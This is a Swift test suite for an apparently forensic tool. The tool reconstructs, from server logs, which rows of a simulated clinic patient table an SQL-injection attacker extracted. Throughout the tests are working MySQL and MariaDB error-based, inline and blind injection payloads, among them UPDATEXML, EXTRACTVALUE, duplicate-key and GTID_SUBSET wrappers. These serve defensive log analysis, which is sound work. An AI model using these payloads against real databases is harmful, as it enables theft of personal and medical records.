import Injection
import TestSupport
import Testing

@testable import Reconstruction

/// Intruders that go cell by cell: error messages and inline queries, on another schema and other pages than those that
/// were recorded.
@Suite struct CellByCellTests {
  static func updateXML(_ query: String) -> String {
    "7' AND UPDATEXML(1,CONCAT(0x7e,0x6b717a,\(query),0x7a716b),1)-- -"
  }
  static func extractValue(_ query: String) -> String {
    "7 OR EXTRACTVALUE(3915,CONCAT(0x7e,0x6b717a,\(query),0x7a716b))"
  }
  static func duplicateKey(_ query: String) -> String {
    "7 AND (SELECT 5 FROM(SELECT COUNT(*),CONCAT(0x7e6b717a,\(query),0x7a716b,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"
  }
  static func inline(_ query: String) -> String { "(SELECT CONCAT(CONCAT(0x7e6b717a,\(query)),0x7a716b))" }

  private func found(_ intruder: Intruder, dump: Bool = true, product: String = "") throws -> Reconstruction {
    let database = dump ? try intruder.clinic.database(product) : Database()
    return Reconstructor(database: database, utcOffset: 0).reconstruct(intruder.attacks)
  }

  /// Compares row by row, so that a failure shows the row.
  private func expectSame(_ table: ObtainedTable, _ intruder: Intruder, _ positions: Range<Int>) {
    let (found, expected) = (table.values(of: intruder.columns), intruder.expected(positions: positions))
    #expect(found.count == expected.count)
    for (row, wanted) in zip(found, expected) { #expect(row == wanted) }
  }

  @Test("UPDATEXML on MySQL: of a value that the server cut, what arrived", arguments: [true, false])
  func updateXML(calibrates: Bool) throws {
    var intruder = Intruder(Clinic(), wrap: Self.updateXML, quote: Quotation.mysql, page: Pages.html)
    intruder.pieceLength = 20
    if calibrates { try intruder.calibrate() }
    try intruder.read(positions: 0..<12)
    let found = try found(intruder, product: "-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)\n")
    #expect(found.obtained.count == 1)
    let table = try #require(found.obtained.first)
    #expect(table.schema == "clinic" && table.table == "patients" && table.extent == .rows)
    #expect(table.columns == intruder.columns)
    expectSame(table, intruder, 0..<12)
    #expect(table.rows.allSatisfy { $0.grade >= .probable })
    #expect(table.predictedBytes == table.observedBytes)
    #expect(found.points.first?.succeeded == true && found.unresolved.isEmpty)
  }

  @Test("FLOOR(RAND(0)*2) on a JSON page, without ORDER BY, in random order and with requests repeated")
  func duplicateKey() throws {
    var intruder = Intruder(
      Clinic(), wrap: Self.duplicateKey, quote: { Quotation.prefix($0 + "1", 64) }, page: Pages.json)
    intruder.pick = { "LIMIT \($0),1" }
    intruder.pieceLength = 54
    try intruder.read(positions: 0..<24)
    var random = SplitMix(state: 3)
    let shuffled = intruder.attacks.shuffled(using: &random)
    let again =
      shuffled
      + shuffled.prefix(9).map { attack in
        var attack = attack
        attack.line += 1_000
        return attack
      }
    let found = Reconstructor(database: try intruder.clinic.database(), utcOffset: 0).reconstruct(again)
    let table = try #require(found.obtained.first)
    #expect(found.obtained.count == 1)
    expectSame(table, intruder, 0..<24)
    #expect(table.rows.allSatisfy { $0.grade >= .probable })
  }

  @Test("EXTRACTVALUE on MariaDB, on a page that repeats the query, in a WHERE of the intruder's own")
  func extractValue() throws {
    var intruder = Intruder(Clinic(), wrap: Self.extractValue, quote: Quotation.mariadb, page: Pages.echoing)
    intruder.order = intruder.clinic.rows.indices.filter { intruder.clinic.value($0, "ward") == "2" }
    intruder.pick = { "WHERE ward=2 ORDER BY pid LIMIT \($0),1" }
    try intruder.calibrate()
    try intruder.read(positions: 0..<6)
    let table = try #require(try found(intruder).obtained.first)
    expectSame(table, intruder, 0..<6)
    #expect(table.condition == "ward=2" && table.orderBy == "pid")
    #expect(table.rows.allSatisfy { $0.grade == .proven })
    // The remarks in Japanese did not arrive whole.
    #expect(table.rows.contains { row in row.cells.contains { !$0.isComplete } })
  }

  @Test("An inline query that the page shows twice", arguments: [true, false])
  func inline(calibrates: Bool) throws {
    var intruder = Intruder(Clinic(), wrap: Self.inline, page: Pages.profile)
    intruder.status = 200
    intruder.pieceLength = 1_024
    if calibrates { try intruder.calibrate() }
    try intruder.read(positions: 4..<20)
    let table = try #require(try found(intruder).obtained.first)
    expectSame(table, intruder, 4..<20)
    #expect(table.rows.allSatisfy { $0.grade >= .probable })
  }

  static let wrappings: [@Sendable (String) -> String] = [
    { "7 AND GTID_SUBSET(CONCAT(0x7e6b717a,\($0),0x7a716b),7)" },
    { "7) OR 8=GTID_SUBTRACT(CONCAT(0x7e6b717a,\($0),0x7a716b),7)#" },
    { "7 AND EXP(~(SELECT * FROM (SELECT CONCAT(0x7e6b717a,\($0),0x7a716b))x))" },
    {
      "7 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7e6b717a,\($0),0x7a716b))s), 8446744073709551610, 8446744073709551610)))"
    },
    { "7 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e6b717a,\($0),0x7a716b)) USING utf8)))" },
    {
      "7 AND GeometryCollection((SELECT * FROM (SELECT * FROM (SELECT CONCAT(0x7e6b717a,\($0),0x7a716b))a)b))"
    },
    { "7 AND ST_LatFromGeoHash(CONCAT(0x7e6b717a,\($0),0x7a716b))" },
    { "7 AND 5=UUID_TO_BIN(CONCAT(0x7e6b717a,\($0),0x7a716b))" },
    { "7 PROCEDURE ANALYSE(EXTRACTVALUE(9,CONCAT(0x5c,0x7e6b717a,\($0),0x7a716b)),1)" },
    { "7 ORDER BY (CASE WHEN 1=1 THEN EXTRACTVALUE(1,CONCAT(0x7e6b717a,\($0),0x7a716b)) ELSE 1 END)" },
    { "x' OR UPDATEXML(1,CONCAT(0x7e6b717a,\($0),0x7a716b),1) OR '" },
    {
      "7 AND (SELECT * FROM (SELECT NAME_CONST(CONCAT(0x7e6b717a,\($0),0x7a716b),1),NAME_CONST(CONCAT(0x7e6b717a,\($0),0x7a716b),1))x)"
    },
  ]

  @Test("Every function that quotes a value in its message delivers", arguments: wrappings.indices)
  func everyFunction(_ number: Int) throws {
    var intruder = Intruder(Clinic(), wrap: Self.wrappings[number], page: Pages.html)
    intruder.pieceLength = 12
    try intruder.calibrate()
    try intruder.read(positions: 0..<5)
    let found = try found(intruder)
    let table = try #require(found.obtained.first)
    let expected = (0..<5).map { row in intruder.columns.map { intruder.clinic.value(row, $0) } }
    let short = table.values(of: intruder.columns)
    for (values, wanted) in zip(short, expected) {
      for (value, wanted) in zip(values, wanted) where wanted?.utf8.count ?? 0 <= 20 {
        #expect(value == wanted)
      }
    }
    #expect(short.count == 5 && table.rows.allSatisfy { $0.grade >= .probable })
    #expect(found.points.first?.succeeded == true)
  }

  @Test("Without a dump the rows that were delivered are counted, and no other", arguments: [0, 1, 2])
  func counted(_ way: Int) throws {
    var intruder = [
      Intruder(Clinic(), wrap: Self.updateXML, quote: Quotation.mysql, page: Pages.html),
      Intruder(Clinic(), wrap: Self.extractValue, quote: Quotation.mariadb, page: Pages.echoing),
      Intruder(Clinic(), wrap: Self.inline, page: Pages.profile),
    ][way]
    intruder.status = way == 2 ? 200 : 500
    try intruder.calibrate()
    try intruder.read(positions: 0..<10)
    // Beyond the end nothing fails, and nothing is shown.
    var attacks = intruder.attacks
    for number in 24..<27 {
      let payload = intruder.wrap("(SELECT surname FROM clinic.patients ORDER BY pid LIMIT \(number),1)")
      attacks.append(
        try attack(
          payload, line: 2_000 + number, bytes: way == 2 ? intruder.page("", payload) : 5_120, status: 200))
    }
    let found = Reconstructor(database: Database(), utcOffset: 0).reconstruct(attacks)
    let table = try #require(found.obtained.first)
    #expect(found.obtained.count == 1 && table.rows.count == 10)
    #expect(table.rows.allSatisfy { $0.grade == .probable && $0.values.allSatisfy { $0 == "\u{FFFD}" } })
    #expect(Set(table.columns) == Set(intruder.columns))
  }

  @Test("A function that the server does not have delivers nothing", arguments: [true, false])
  func missingFunction(dump: Bool) throws {
    var intruder = Intruder(
      Clinic(), wrap: Self.wrappings[0], quote: { _ in "FUNCTION clinic.GTID_SUBSET does not exist" },
      page: Pages.html)
    try intruder.calibrate()
    try intruder.read(positions: 0..<5)
    let found = try found(intruder, dump: dump)
    #expect(found.obtained.isEmpty)
    #expect(found.points.allSatisfy { !$0.succeeded })
  }

  @Test("Where ORDER BY leaves the order open, the bytes say which row a position was")
  func ties() throws {
    var intruder = Intruder(Clinic(), wrap: Self.extractValue, quote: Quotation.mariadb, page: Pages.html)
    // The server had its own order within a ward: backwards.
    intruder.order = intruder.clinic.rows.indices.sorted {
      (intruder.clinic.value($0, "ward") ?? "", -$0) < (intruder.clinic.value($1, "ward") ?? "", -$1)
    }
    intruder.pick = { "ORDER BY ward LIMIT \($0),1" }
    try intruder.calibrate()
    try intruder.read(positions: 0..<24)
    let table = try #require(try found(intruder).obtained.first)
    expectSame(table, intruder, 0..<24)
    #expect(table.rows.allSatisfy { $0.grade >= .probable })
  }

  @Test("Who starts over with other columns took two sets; who repeats himself one")
  func startingOver() throws {
    var intruder = Intruder(Clinic(), wrap: Self.extractValue, quote: Quotation.mariadb, page: Pages.html)
    try intruder.calibrate()
    intruder.columns = ["surname", "phone"]
    try intruder.read(positions: 0..<5)
    intruder.columns = ["pid", "surname", "phone", "insurance_no"]
    try intruder.read(positions: 0..<4)
    intruder.columns = ["surname", "phone"]
    try intruder.read(positions: 0..<7)
    let found = try found(intruder)
    #expect(
      found.obtained.map { Set($0.columns) } == [
        ["pid", "surname", "phone", "insurance_no"], ["surname", "phone"],
      ])
    #expect(found.obtained.map(\.rows.count) == [4, 7])
    #expect(found.obtained.allSatisfy { $0.rows.allSatisfy { $0.cells.allSatisfy { $0.grade == .proven } } })
  }

  @Test("Rows that a condition picks, and several columns in one text")
  func conditions() throws {
    let clinic = Clinic()
    var intruder = Intruder(
      clinic, wrap: Self.duplicateKey, quote: { Quotation.prefix($0 + "1", 64) }, page: Pages.html)
    try intruder.calibrate()
    for row in [2, 5, 11] {
      let pid = clinic.value(row, "pid") ?? ""
      let text = pid + ":" + (clinic.value(row, "insurance_no") ?? "")
      try intruder.ask("(SELECT CONCAT(pid,0x3a,insurance_no) FROM clinic.patients WHERE pid=\(pid))", text)
      try intruder.ask(
        "(SELECT surname FROM clinic.patients WHERE pid=\(pid))", clinic.value(row, "surname") ?? "")
    }
    let table = try #require(try found(intruder).obtained.first)
    #expect(Set(table.columns) == ["pid", "insurance_no", "surname"])
    #expect(
      table.values(of: ["pid", "insurance_no", "surname"])
        == [2, 5, 11].map { row in ["pid", "insurance_no", "surname"].map { clinic.value(row, $0) } })
  }

  @Test("Walking a column from its least value on, on a page that shows errors with status 200")
  func walking() throws {
    let clinic = Clinic()
    var intruder = Intruder(clinic, wrap: Self.extractValue, quote: Quotation.mariadb, page: Pages.html)
    intruder.status = 200
    try intruder.calibrate()
    let numbers = clinic.rows.compactMap { $0[3] }.sorted()
    var last = " "
    for number in numbers.prefix(8) {
      try intruder.ask(
        "(SELECT MIN(insurance_no) FROM clinic.patients WHERE insurance_no>'\(last)')", number)
      let row = clinic.rows.firstIndex { $0[3] == number } ?? 0
      try intruder.ask(
        "(SELECT MAX(surname) FROM clinic.patients WHERE insurance_no LIKE '\(number)')",
        clinic.value(row, "surname") ?? "")
      last = number
    }
    let found = try found(intruder)
    let table = try #require(found.obtained.first)
    let rows = table.values(of: ["insurance_no", "surname"])
    #expect(found.obtained.count == 1 && rows.count == 8)
    for number in numbers.prefix(8) {
      let row = clinic.rows.first { $0[3] == number } ?? []
      #expect(rows.contains { $0[1] == row[1] && ($0[0] ?? "").hasPrefix(number.prefix(12)) })
    }
  }

  @Test("Whether a message comes at all is an answer of yes or no, and delivers nothing")
  func failingOrNot() throws {
    let attacks = try (0..<20).map { number in
      try attack(
        "7 AND IF((SELECT ORD(MID(surname,1,1)) FROM clinic.patients ORDER BY pid LIMIT \(number),1)>64,EXTRACTVALUE(1,0x7e),1)",
        line: number, bytes: number % 3 == 0 ? 700 : 912, status: number % 3 == 0 ? 200 : 500)
    }
    let found = Reconstructor(database: try Clinic().database(), utcOffset: 0).reconstruct(attacks)
    #expect(found.obtained.isEmpty)
    #expect(found.unresolved.map(\.evidence.count) == [20])
    #expect(AskedData(attacks).tables == ["patients"])
  }

  @Test("Values in hexadecimal, in pieces")
  func hexadecimal() throws {
    let clinic = Clinic()
    var intruder = Intruder(clinic, wrap: Self.updateXML, quote: Quotation.mysql, page: Pages.html)
    try intruder.calibrate()
    for row in 0..<6 {
      let digits = (clinic.value(row, "surname") ?? "").utf8.map { byte in
        (byte < 16 ? "0" : "") + String(byte, radix: 16, uppercase: true)
      }.joined()
      for start in stride(from: 0, to: digits.count + 1, by: 16) {
        try intruder.ask(
          "(SELECT MID(HEX(IFNULL(CAST(surname AS CHAR),0x20)),\(start + 1),16) FROM clinic.patients ORDER BY pid LIMIT \(row),1)",
          String(digits.dropFirst(start).prefix(16)))
      }
    }
    let table = try #require(try found(intruder).obtained.first)
    #expect(table.values(of: ["surname"]) == (0..<6).map { [clinic.value($0, "surname")] })
    #expect(table.rows.allSatisfy { $0.cells[0].isComplete })
  }

  @Test(
    "With lines lost nothing that is proven or probable is wrong", arguments: [0.01, 0.1, 0.5], [0, 1, 2, 3])
  func damage(_ share: Double, _ way: Int) throws {
    var intruder = [
      Intruder(Clinic(), wrap: Self.updateXML, quote: Quotation.mysql, page: Pages.html),
      Intruder(Clinic(), wrap: Self.extractValue, quote: Quotation.mariadb, page: Pages.echoing),
      Intruder(
        Clinic(), wrap: Self.duplicateKey, quote: { Quotation.prefix($0 + "1", 64) }, page: Pages.json),
      Intruder(Clinic(), wrap: Self.inline, page: Pages.profile),
    ][way]
    if way == 3 { intruder.status = 200 }
    if way == 1 {
      intruder.order = intruder.clinic.rows.indices.sorted {
        (intruder.clinic.value($0, "ward") ?? "", -$0) < (intruder.clinic.value($1, "ward") ?? "", -$1)
      }
      intruder.pick = { "ORDER BY ward LIMIT \($0),1" }
    }
    try intruder.calibrate()
    try intruder.read(positions: 0..<24)
    var random = SplitMix(state: UInt64(share * 1_000))
    let kept = intruder.attacks.filter { _ in Double.random(in: 0..<1, using: &random) >= share }
    let found = Reconstructor(database: try intruder.clinic.database(), utcOffset: 0).reconstruct(kept)
    var sure = 0
    for table in found.obtained {
      for row in table.rows {
        let number = try #require(intruder.clinic.rows.firstIndex { $0[0] == row.key })
        for (place, column) in table.columns.enumerated() where row.cells[place].grade >= .probable {
          sure += 1
          let value = row.values[place]
          let delivered = intruder.delivered(number, column)
          #expect((value == nil) == (delivered == nil))
          for (said, really) in zip(
            value?.unicodeScalars ?? "".unicodeScalars, delivered?.unicodeScalars ?? "".unicodeScalars)
          where said != "\u{FFFD}" {
            #expect(said == really, "\(column) of \(row.key ?? ""): \(value ?? "")")
          }
        }
      }
      #expect(table.rows.count <= 24)
    }
    #expect(sure > (share < 0.4 ? 60 : 10))
  }
}
